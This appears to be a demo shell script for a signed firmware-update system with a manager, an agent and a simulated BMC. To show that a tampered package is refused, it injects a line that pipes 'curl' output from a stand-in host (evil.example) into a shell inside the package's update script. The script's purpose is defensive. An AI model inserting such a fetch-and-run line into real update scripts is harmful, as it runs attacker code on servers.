#!/usr/bin/env bash
# The local demo: a vendor key, a signed package, verification, and a tampered copy refused; then a manager,
# a server with a simulated BMC (ipmi_sim) and its agent: enrolment, inventory through FreeIPMI, the
# repository, the server's status, a central approval, and the agent pulling it.
set -euo pipefail
bin=$(cd "$1" && pwd)
here=$(cd "$(dirname "$0")" && pwd)
work=$(mktemp -d /tmp/exup-demo.XXXXXX)
pids=()
trap 'kill "${pids[@]}" 2>/dev/null; wait 2>/dev/null; rm -rf "$work"' EXIT
cd "$work"
step() { printf '\n\033[1m== %s\033[0m\n' "$*"; }

step "A vendor creates a signing key"
"$bin/exup" pkg keygen --out vendor
mkdir trusted-keys && cp vendor/vendor.pub.pem trusted-keys/

step "…and builds a signed update package"
"$bin/exup" pkg build --info "$here/demo/ExUpInfo.xml" --payload "$here/demo/payload" \
  --key vendor/vendor.key.pem --out bmc-r120h-2.31.zip
"$bin/exup" pkg inspect --trusted-keys trusted-keys bmc-r120h-2.31.zip

step "A server checks it against its trusted vendor keys"
"$bin/exup" pkg verify --trusted-keys trusted-keys bmc-r120h-2.31.zip

step "Someone slips a command into the update program and re-zips it with the original signature…"
mkdir unpacked && (cd unpacked && unzip -q ../bmc-r120h-2.31.zip)
sed -i 's/^exit 0$/curl -s http:\/\/evil.example | sh; exit 0/' unpacked/payload/apply.sh
(cd unpacked && zip -qr ../tampered.zip ExUpInfo.xml payload ExUpHash.xml ExUpHash.sig)
step "…and the package is refused (exit status 1)"
if "$bin/exup" pkg verify --trusted-keys trusted-keys tampered.zip; then
  echo "demo failed: the tampered package was accepted" >&2; exit 1
fi
step "The manager starts (first start: TUF keys, administrator token, repository password)"
mport=$(( 41000 + RANDOM % 9000 ))
"$bin/exup-manager" serve --data-dir manager --listen "127.0.0.1:$mport" --trusted-keys trusted-keys > manager.log 2>&1 &
pids+=($!)
for _ in $(seq 200); do grep -q "listening on" manager.log 2>/dev/null && break; sleep 0.05; done
grep -q "listening on" manager.log || { cat manager.log >&2; echo "demo failed: the manager did not start" >&2; exit 1; }
export EXUP_SERVER="http://127.0.0.1:$mport" EXUP_TOKEN="$(cat manager/admin.token)"
echo "listening on $EXUP_SERVER"

step "A server: its BMC (simulated by ipmi_sim) and its agent, enrolled with a one-time token"
bport=$(( 51000 + RANDOM % 9000 ))
"$bin/exup-sim-bmc" "$bport" > bmc.log 2>&1 &
pids+=($!)
for _ in $(seq 200); do grep -q "^READY" bmc.log 2>/dev/null && break; sleep 0.05; done
grep -q "^READY" bmc.log || { cat bmc.log >&2; echo "demo failed: the simulated BMC did not start" >&2; exit 1; }
token=$("$bin/exup" agents token create --expires 1h)
cat > agent.toml <<EOF
[ipmi]
driver = "lan-2.0"
host = "127.0.0.1"
port = $bport
username = "admin"
password = "secret"
workarounds = ["opensesspriv"]
sdr-cache-dir = "$work/sdr"

[inventory]
package-system = "none"

[manager]
url = "$EXUP_SERVER"
enrolment-token = "$token"

[agent]
name = "demo-server"
state-dir = "$work/agent-state"
EOF
"$bin/exup-agent" inventory --config agent.toml || true
"$bin/exup-agent" run --once --config agent.toml

step "The vendor's package goes into the repository (it applies to the server's model)"
"$bin/exup" repo add bmc-r120h-2.31.zip
"$bin/exup" repo list

step "The manager computes each module's status: an update is available"
"$bin/exup" servers
"$bin/exup" server show demo-server

step "An operator approves it centrally…"
"$bin/exup" approve demo-server --allow-reboot

step "…and the agent pulls the approval at its next poll"
"$bin/exup-agent" run --once --config agent.toml
"$bin/exup-agent" status --config agent.toml
"$bin/exup" log > applog.txt && head -12 applog.txt

echo
echo "demo complete: the genuine package verified, the tampered one was refused; the agent enrolled,"
echo "reported its BMC read through FreeIPMI, and pulled the central approval. (Applying it is the agent"
echo "daemon's next step.)"
